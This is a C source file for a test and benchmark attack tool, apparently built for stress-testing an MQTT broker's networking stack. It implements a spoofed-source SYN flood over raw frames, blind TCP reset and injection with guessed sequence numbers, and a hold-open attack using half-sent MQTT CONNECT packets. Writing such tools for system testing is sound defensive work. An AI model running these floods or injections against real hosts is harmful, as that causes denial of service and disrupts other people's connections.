/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks for system tests and the bench.
 *
 *   attack syn    SYN segments from invented addresses, as raw frames into --interface
 *   attack blind  RST, SYN, ACK with data and FIN with guessed numbers, in the name of --source and
 *                 --source-port
 *   attack half   --count connections over the kernel that send the first bytes of a CONNECT and no
 *                 more, from --source
 *
 * `syn` and `blind` send --count frames, at most --rate a second (0: as fast as it goes), or until
 * standard input ends when the count is 0. `half` prints `ready N` and holds them until standard
 * input ends. In the end one JSON object says what was done.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "dataplane/ether/checksum.h"

enum { BURST = 64, PAYLOAD = 16, OPENING_MAX = 500 };

static struct {
    const char *interface, *host, *mac, *source;
    unsigned port, source_port;
    uint64_t count, rate;
} options = {.interface = "linemq0",
             .host = "10.88.0.2",
             .source = "10.88.0.1",
             .port = 1883,
             .source_port = 0};

static uint64_t generator = 1;

static void fatal(const char *what) {
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* splitmix64 */
static uint32_t random_number(void) {
    uint64_t z = generator += 0x9e3779b97f4a7c15u;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9u;
    z = (z ^ z >> 27) * 0x94d049bb133111ebu;
    return (uint32_t)(z >> 32);
}

static uint64_t nanoseconds(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

static bool input_ended(void) {
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
    char byte;
    return poll(&input, 1, 0) > 0 && read(STDIN_FILENO, &byte, 1) <= 0;
}

/* --- raw frames ------------------------------------------------------------------------------ */

struct frame {
    struct ether_header ether;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t payload[PAYLOAD];
} __attribute__((packed));

static void finish(struct frame *frame, size_t payload) {
    size_t tcp = sizeof frame->tcp + payload;
    frame->ip.version = 4;
    frame->ip.ihl = 5;
    frame->ip.ttl = 60;
    frame->ip.protocol = IPPROTO_TCP;
    frame->ip.tot_len = htons((uint16_t)(sizeof frame->ip + tcp));
    frame->ip.check = frame->tcp.check = 0;
    frame->ip.check = checksum_finish(checksum_sum(&frame->ip, sizeof frame->ip));
    frame->tcp.doff = 5;
    uint64_t pseudo =
        checksum_pseudo_header((const uint8_t *)&frame->ip.saddr, (const uint8_t *)&frame->ip.daddr,
                               4, IPPROTO_TCP, (uint32_t)tcp);
    frame->tcp.check = checksum_finish(pseudo + checksum_sum(&frame->tcp, tcp));
}

/* One of 198.18.0.0/15, or of a thousand other networks. */
static uint32_t invented_address(void) {
    uint32_t number = random_number();
    return htonl(number & 1 ? 0xc6120000 | (number >> 1 & 0x1ffff) : 0x0b000000 | number >> 9);
}

static size_t make_syn(struct frame *frame) {
    frame->ip.saddr = invented_address();
    frame->tcp.source = htons((uint16_t)(1024 + random_number() % 60000));
    frame->tcp.seq = htonl(random_number());
    frame->tcp.syn = 1;
    frame->tcp.window = htons(65535);
    finish(frame, 0);
    return sizeof *frame - PAYLOAD;
}

static size_t make_blind(struct frame *frame) {
    uint32_t kind = random_number() % 5;
    size_t payload = kind == 3 ? PAYLOAD : 0;
    frame->tcp.source = htons((uint16_t)options.source_port);
    frame->tcp.seq = htonl(random_number());
    frame->tcp.ack_seq = htonl(random_number());
    frame->tcp.window = htons(65535);
    frame->tcp.rst = kind == 0 || kind == 1;
    frame->tcp.syn = kind == 2;
    frame->tcp.fin = kind == 4;
    frame->tcp.ack = kind != 0 && kind != 2;
    finish(frame, payload);
    return sizeof *frame - PAYLOAD + payload;
}

static int open_raw(uint8_t mac[6]) {
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    struct ifreq request = {0};
    snprintf(request.ifr_name, sizeof request.ifr_name, "%s", options.interface);
    struct sockaddr_ll address = {.sll_family = AF_PACKET,
                                  .sll_ifindex = (int)if_nametoindex(options.interface)};
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request) != 0 ||
        bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
        fatal(options.interface);
    memcpy(mac, request.ifr_hwaddr.sa_data, 6);
    return fd;
}

static int send_frames(size_t (*make)(struct frame *frame)) {
    static struct frame frames[BURST];
    struct iovec pieces[BURST];
    struct mmsghdr messages[BURST] = {0};
    struct frame pattern = {.ether.ether_type = htons(ETHERTYPE_IP)};
    unsigned mac[6];
    uint8_t source_mac[6];
    int fd = open_raw(source_mac);
    if (!options.mac || sscanf(options.mac, "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3],
                               &mac[4], &mac[5]) != 6)
        fatal("--mac");
    for (unsigned i = 0; i < 6; i++)
        pattern.ether.ether_dhost[i] = (uint8_t)mac[i];
    memcpy(pattern.ether.ether_shost, source_mac, 6);
    inet_pton(AF_INET, options.source, &pattern.ip.saddr);
    inet_pton(AF_INET, options.host, &pattern.ip.daddr);
    pattern.tcp.dest = htons((uint16_t)options.port);

    uint64_t sent = 0, refused = 0, began = nanoseconds();
    while (options.count ? sent + refused < options.count : !input_ended()) {
        uint64_t due = options.rate * (nanoseconds() - began) / 1000000000;
        if (options.rate && sent + refused >= due) {
            poll(NULL, 0, 1);
            continue;
        }
        for (unsigned i = 0; i < BURST; i++) {
            frames[i] = pattern;
            pieces[i] = (struct iovec){&frames[i], make(&frames[i])};
            messages[i].msg_hdr = (struct msghdr){.msg_iov = &pieces[i], .msg_iovlen = 1};
        }
        /* A full queue takes fewer: the rest counts as lost on the way. */
        int taken = sendmmsg(fd, messages, BURST, 0);
        if (taken < 0 && errno != ENOBUFS && errno != EAGAIN)
            fatal("sendmmsg");
        sent += taken > 0 ? (unsigned)taken : 0;
        refused += taken > 0 ? (unsigned)(BURST - taken) : BURST;
    }
    double seconds = (double)(nanoseconds() - began) / 1e9;
    printf("{\"sent\": %" PRIu64 ", \"refused\": %" PRIu64 ", \"per_second\": %.0f}\n", sent,
           refused, (double)sent / seconds);
    return 0;
}

/* --- half packets ---------------------------------------------------------------------------- */

static int begin(void) {
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET};
    int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    inet_pton(AF_INET, options.source, &from.sin_addr);
    inet_pton(AF_INET, options.host, &to.sin_addr);
    to.sin_port = htons((uint16_t)options.port);
    if (fd < 0)
        fatal("socket");
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&from, sizeof from) != 0)
        fatal("bind");
    if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS)
        fatal("connect");
    return fd;
}

static int hold_halves(void) {
    static const uint8_t half[] = {0x10, 0x7f, 0, 4, 'M', 'Q', 'T', 'T', 4, 2, 0, 60, 0, 100, 'x'};
    struct rlimit files;
    int poller = epoll_create1(EPOLL_CLOEXEC);
    uint64_t begun = 0, ready = 0, lost = 0;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        setrlimit(RLIMIT_NOFILE, &files);
    }
    if (poller < 0)
        fatal("epoll");
    while (ready + lost < options.count) {
        for (; begun < options.count && begun - ready - lost < OPENING_MAX; begun++) {
            int fd = begin();
            struct epoll_event event = {.events = EPOLLOUT | EPOLLONESHOT, .data.fd = fd};
            epoll_ctl(poller, EPOLL_CTL_ADD, fd, &event);
        }
        struct epoll_event events[BURST];
        int count = epoll_wait(poller, events, BURST, 30000);
        if (count <= 0)
            break;
        for (int i = 0; i < count; i++)
            if (write(events[i].data.fd, half, sizeof half) == sizeof half)
                ready++;
            else
                lost++;
    }
    printf("ready %" PRIu64 "\n", ready);
    fflush(stdout);
    while (!input_ended())
        poll(NULL, 0, 10);
    printf("{\"held\": %" PRIu64 ", \"lost\": %" PRIu64 "}\n", ready, lost);
    return 0;
}

int main(int argc, char **argv) {
    static const struct option longs[] = {{"interface", 1, NULL, 'i'},   {"host", 1, NULL, 'h'},
                                          {"mac", 1, NULL, 'm'},         {"source", 1, NULL, 's'},
                                          {"source-port", 1, NULL, 'p'}, {"count", 1, NULL, 'c'},
                                          {"rate", 1, NULL, 'r'},        {NULL, 0, NULL, 0}};
    for (int c; (c = getopt_long(argc, argv, "", longs, NULL)) != -1;) {
        switch (c) {
        case 'i':
            options.interface = optarg;
            break;
        case 'h':
            options.host = optarg;
            break;
        case 'm':
            options.mac = optarg;
            break;
        case 's':
            options.source = optarg;
            break;
        case 'p':
            options.source_port = (unsigned)atoi(optarg);
            break;
        case 'c':
            options.count = strtoull(optarg, NULL, 10);
            break;
        case 'r':
            options.rate = strtoull(optarg, NULL, 10);
            break;
        default:
            return 2;
        }
    }
    const char *what = optind < argc ? argv[optind] : "";
    if (strcmp(what, "syn") == 0)
        return send_frames(make_syn);
    if (strcmp(what, "blind") == 0)
        return send_frames(make_blind);
    if (strcmp(what, "half") == 0)
        return hold_halves();
    fprintf(stderr, "attack: give syn, blind or half\n");
    return 2;
}
